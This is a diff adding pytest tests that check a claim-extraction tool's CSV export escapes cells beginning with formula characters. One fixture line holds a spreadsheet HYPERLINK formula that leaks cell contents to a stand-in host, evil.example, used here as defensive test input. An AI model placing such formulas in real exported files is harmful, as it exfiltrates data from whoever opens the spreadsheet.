@@ -4,6 +4,7 @@ terminal raw, never crashes a report, and never runs in a spreadsheet (issue 11)
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -234,3 +235,52 @@ def test_reliability_terminal_render_makes_a_lone_cr_visible_in_place():
     assert text.plain == doc.text.replace("\r", "\u240d")
     (claim,) = doc.claims
     assert doc.text[claim.claimant.start : claim.claimant.end] in _styled(text, STYLES["claimant"])
+
+
+# ---------------------------------------------------------------------- item 4: CSV formulas
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Kharkiv")'
+
+
+def test_reliability_terminal_csv_cells_cannot_start_a_formula(tmp_path):
+    article = tmp_path / "formula.txt"
+    article.write_text(
+        f"date 2023-03-01\n{FORMULA} the governor said on Monday.\n", encoding="utf-8"
+    )
+    db = tmp_path / "f.db"
+    assert run("analyze", str(article), "--db", str(db), "-q").returncode == 0
+    (record,) = [
+        json.loads(x) for x in run("claims", "--db", str(db), "-f", "jsonl").stdout.split("\n") if x
+    ]
+    assert record["text"].startswith(FORMULA)  # JSONL is data: as it was
+    out = tmp_path / "claims.csv"
+    run("export", "--format", "csv", "--out", str(out), "--db", str(db))
+    for source in (
+        out.read_text(encoding="utf-8"),
+        run("claims", "--db", str(db), "-f", "csv").stdout,
+    ):
+        (row,) = csv.DictReader(io.StringIO(source))
+        assert row["text"] == "'" + record["text"]
+        assert json.loads(row["record"]) == record  # the JSON column starts with "{": untouched
+
+
+def test_reliability_terminal_csv_escapes_every_formula_start():
+    from claimscope.export import records_to_string
+    from claimscope.records import claim_record
+
+    doc = claimscope.analyze_text(
+        "The governor said that 12 people were evacuated from Kharkiv.",
+        date="2023-03-01",
+        lang="en",
+    )
+    rec = claim_record(doc.claims[0])
+    starts = {"=": "=1+1", "+": "+1+1", "-": "-1+1", "@": "@SUM(A1)", "\t": "\t=1", "\r": "\r=1"}
+    for cell in starts.values():
+        rec["text"] = cell
+        rec["claimant"]["name"] = cell
+        (row,) = csv.DictReader(io.StringIO(records_to_string([rec], "csv"), newline=""))
+        assert row["text"] == row["claimant"] == "'" + cell
+        assert row["start"] == str(rec["span"][0])  # numbers stay numbers
+    for cell in ("Kharkiv = 1", "-", "over\rwritten", "two\r\nlines"):
+        rec["text"] = cell
+        (row,) = csv.DictReader(io.StringIO(records_to_string([rec], "csv"), newline=""))
+        assert row["text"] == (cell if cell[0] != "-" else "'-")  # one row, the cell whole
